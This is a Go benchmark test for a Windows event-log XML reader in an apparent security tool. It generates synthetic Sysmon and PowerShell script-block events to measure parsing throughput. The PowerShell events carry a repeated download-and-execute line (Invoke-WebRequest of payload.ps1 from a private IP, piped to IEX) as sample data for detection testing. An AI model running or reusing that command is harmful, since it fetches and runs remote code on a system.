package winxml

import (
	"context"
	"fmt"
	"math/rand"
	"strings"
	"testing"

	"github.com/riskhound/riskhound/internal/event"
)

// benchInput returns about size bytes of XmlWinEventLog text, four 4104
// PowerShell script-block events (multi-line scripts with entities) for every
// Sysmon 1 event, one event per line, and the number of events.
func benchInput(size int) (string, int) {
	rng := rand.New(rand.NewSource(7))
	var b strings.Builder
	n := 0
	line := "$x = Invoke-WebRequest -Uri &quot;http://10.1.2.3/payload.ps1&quot; -UseBasicParsing &amp;&amp; IEX $x.Content\n"
	for b.Len() < size {
		if n%5 == 4 {
			fmt.Fprintf(&b, `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='2024-05-15T14:40:%02d.%07dZ'/><EventRecordID>%d</EventRecordID><Correlation/><Execution ProcessID='2000' ThreadID='3000'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>ws02.corp.local</Computer><Security UserID='S-1-5-18'/></System><EventData><Data Name='RuleName'>-</Data><Data Name='UtcTime'>2024-05-15 14:40:00.000</Data><Data Name='ProcessGuid'>{aaaaaaaa-0000-0000-0000-000000000001}</Data><Data Name='ProcessId'>6000</Data><Data Name='Image'>C:\Windows\System32\cmd.exe</Data><Data Name='FileVersion'>10.0</Data><Data Name='Description'>Windows Command Processor</Data><Data Name='Product'>Microsoft Windows</Data><Data Name='Company'>Microsoft Corporation</Data><Data Name='OriginalFileName'>Cmd.Exe</Data><Data Name='CommandLine'>cmd.exe /c &quot;echo a &gt; b.txt&quot;</Data><Data Name='CurrentDirectory'>C:\Users\bob\</Data><Data Name='User'>CORP\bob</Data><Data Name='LogonGuid'>{aaaaaaaa-0000-0000-0000-000000000002}</Data><Data Name='LogonId'>0x3e7</Data><Data Name='TerminalSessionId'>1</Data><Data Name='IntegrityLevel'>High</Data><Data Name='Hashes'>SHA256=00AA</Data><Data Name='ParentProcessGuid'>{aaaaaaaa-0000-0000-0000-000000000003}</Data><Data Name='ParentProcessId'>5000</Data><Data Name='ParentImage'>C:\Windows\explorer.exe</Data><Data Name='ParentCommandLine'>C:\Windows\Explorer.EXE</Data></EventData></Event>`+"\n", rng.Intn(60), rng.Intn(1e7), n)
		} else {
			fmt.Fprintf(&b, `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-PowerShell' Guid='{a0c1853b-5c40-4b15-8766-3cf1c58f985a}'/><EventID>4104</EventID><Version>1</Version><Level>5</Level><Task>2</Task><Opcode>15</Opcode><Keywords>0x0</Keywords><TimeCreated SystemTime='2024-05-15T14:37:%02d.%07dZ'/><EventRecordID>%d</EventRecordID><Correlation ActivityID='{11111111-2222-3333-4444-555555555555}'/><Execution ProcessID='4444' ThreadID='5555'/><Channel>Microsoft-Windows-PowerShell/Operational</Channel><Computer>ws01.corp.local</Computer><Security UserID='S-1-5-21-1-2-3-1001'/></System><EventData><Data Name='MessageNumber'>1</Data><Data Name='MessageTotal'>1</Data><Data Name='ScriptBlockText'>%s</Data><Data Name='ScriptBlockId'>{0a1b2c3d-0000-4000-8000-000000000001}</Data><Data Name='Path'></Data></EventData></Event>`+"\n", rng.Intn(60), rng.Intn(1e7), n, strings.Repeat(line, 1+rng.Intn(20)))
		}
		n++
	}
	return b.String(), n
}

func BenchmarkRead(b *testing.B) {
	text, n := benchInput(32 << 20)
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	b.ResetTimer()
	for range b.N {
		count := 0
		err := Read(context.Background(), "bench", strings.NewReader(text),
			func(*event.Event) error { count++; return nil }, func(p event.Problem) { b.Fatal(p) })
		if err != nil || count != n {
			b.Fatalf("err=%v, %d events, want %d", err, count, n)
		}
	}
	b.ReportMetric(float64(n)*float64(b.N)/b.Elapsed().Seconds(), "events/s")
}
